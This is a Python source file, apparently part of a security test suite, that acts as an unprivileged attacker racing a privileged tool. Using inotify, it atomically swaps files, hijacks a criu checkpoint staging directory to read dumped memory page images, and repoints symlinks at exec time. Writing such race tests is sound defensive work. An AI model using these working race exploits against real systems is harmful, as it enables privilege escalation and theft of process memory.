"""An unprivileged attacker for the trust tests, run as uid 65534 (``setpriv``) with the system Python.

Each subcommand waits for the moment a race needs (an inotify event, not a sleep), acts once, and
prints one JSON line saying what it did. It gives up after --timeout seconds, printing what it saw.

  swap-on-create DIR TRIGGER SRC EVIL   when DIR/TRIGGER is created: exchange SRC and EVIL (one atomic rename)
  hijack-staging PARENT PREFIX          when PARENT/PREFIX* (a staging dir) and its images/ appear: move it
                                        aside, put a world-writable one of ours in its place, and report
                                        the bytes of every page image we can read from it afterwards
  repoint-on-open WATCHED LINK TARGET   when WATCHED is opened (e.g. exec'd): re-point the symlink LINK to TARGET
"""

from __future__ import annotations

import argparse
import ctypes
import json
import os
import select
import struct
import time

RENAME_EXCHANGE = 2
IN_OPEN = 0x20
IN_CREATE = 0x100
_EVENT = struct.Struct("iIII")
_libc = ctypes.CDLL("libc.so.6", use_errno=True)


class Watch:
    def __init__(self, path: str, mask: int) -> None:
        self.fd = _libc.inotify_init1(os.O_CLOEXEC)
        if self.fd < 0 or _libc.inotify_add_watch(self.fd, path.encode(), mask) < 0:
            raise OSError(ctypes.get_errno(), "inotify on %s" % path)

    def names(self, deadline: float):
        """Yield the names of events (empty for events on the watched file itself) until the deadline."""
        while time.monotonic() < deadline:
            if not select.select([self.fd], [], [], max(0.0, deadline - time.monotonic()))[0]:
                return
            data = os.read(self.fd, 65536)
            offset = 0
            while offset < len(data):
                _wd, _mask, _cookie, length = _EVENT.unpack_from(data, offset)
                offset += _EVENT.size
                yield data[offset:offset + length].rstrip(b"\0").decode()
                offset += length


def report(**fields) -> None:
    print(json.dumps(fields), flush=True)


def swap_on_create(args) -> None:
    watch = Watch(args.dir, IN_CREATE)
    report(ready=True)
    for name in watch.names(time.monotonic() + args.timeout):
        if name == args.trigger:
            if _libc.renameat2(-100, args.src.encode(), -100, args.evil.encode(), RENAME_EXCHANGE) != 0:
                raise OSError(ctypes.get_errno(), "renameat2 %s %s" % (args.src, args.evil))
            report(swapped=True)
            return
    report(swapped=False)


def hijack_staging(args) -> None:
    watch = Watch(args.parent, IN_CREATE)
    report(ready=True)
    deadline = time.monotonic() + args.timeout
    for name in watch.names(deadline):
        if not name.startswith(args.prefix):
            continue
        staging = os.path.join(args.parent, name)
        while not os.path.isdir(os.path.join(staging, "images")) and time.monotonic() < deadline:
            pass
        os.rename(staging, os.path.join(args.parent, "aside"))
        os.mkdir(staging, 0o777)
        os.chmod(staging, 0o777)
        os.mkdir(os.path.join(staging, "images"), 0o777)
        os.chmod(os.path.join(staging, "images"), 0o777)
        report(hijacked=staging)
        stolen = 0
        # Read what criu writes into our directory while it runs (publish may move it away).
        while time.monotonic() < deadline and stolen == 0:
            for root in (staging, os.path.join(args.parent, args.dest_name)):
                try:
                    for image in os.listdir(os.path.join(root, "images")):
                        if image.startswith("pages-"):
                            with open(os.path.join(root, "images", image), "rb") as handle:
                                stolen += len(handle.read())
                except OSError:
                    pass
            time.sleep(0.01)
        report(stolen_bytes=stolen)
        return
    report(hijacked=None, stolen_bytes=0)


def repoint_on_open(args) -> None:
    watch = Watch(args.watched, IN_OPEN)
    report(ready=True)
    for _name in watch.names(time.monotonic() + args.timeout):
        temporary = args.link + ".new"
        os.symlink(args.target, temporary)
        os.rename(temporary, args.link)
        report(repointed=True)
        return
    report(repointed=False)


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--timeout", type=float, default=60)
    commands = parser.add_subparsers(dest="command", required=True)
    swap = commands.add_parser("swap-on-create")
    for name in ("dir", "trigger", "src", "evil"):
        swap.add_argument(name)
    hijack = commands.add_parser("hijack-staging")
    for name in ("parent", "prefix", "dest_name"):
        hijack.add_argument(name)
    repoint = commands.add_parser("repoint-on-open")
    for name in ("watched", "link", "target"):
        repoint.add_argument(name)
    args = parser.parse_args()
    {"swap-on-create": swap_on_create, "hijack-staging": hijack_staging, "repoint-on-open": repoint_on_open}[args.command](args)


if __name__ == "__main__":
    main()
